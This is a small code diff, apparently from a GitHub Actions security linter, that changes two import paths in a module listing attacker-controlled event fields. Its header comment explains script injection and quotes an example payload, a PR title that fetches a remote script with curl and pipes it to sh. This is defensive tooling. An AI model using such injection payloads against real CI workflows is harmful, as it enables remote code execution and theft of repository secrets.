@@ -1,8 +1,8 @@
 // Event fields an outside contributor controls (titles, bodies, branch names, commit messages, author names). Pasted into
 // a script through `${{ }}`, they become code: `"; curl evil | sh #` as a PR title runs with your secrets.
 // From GitHub's "Security hardening: understanding the risk of script injections" and actionlint's list.
-import type { Expr } from '../expressions/ast';
-import { parseExpression } from '../expressions/parser';
+import type { Expr } from './ast';
+import { parseExpression } from './parser';
 
 /** Property paths of untrusted fields; `*` is any key or array index. */
 const UNTRUSTED_PATHS = [
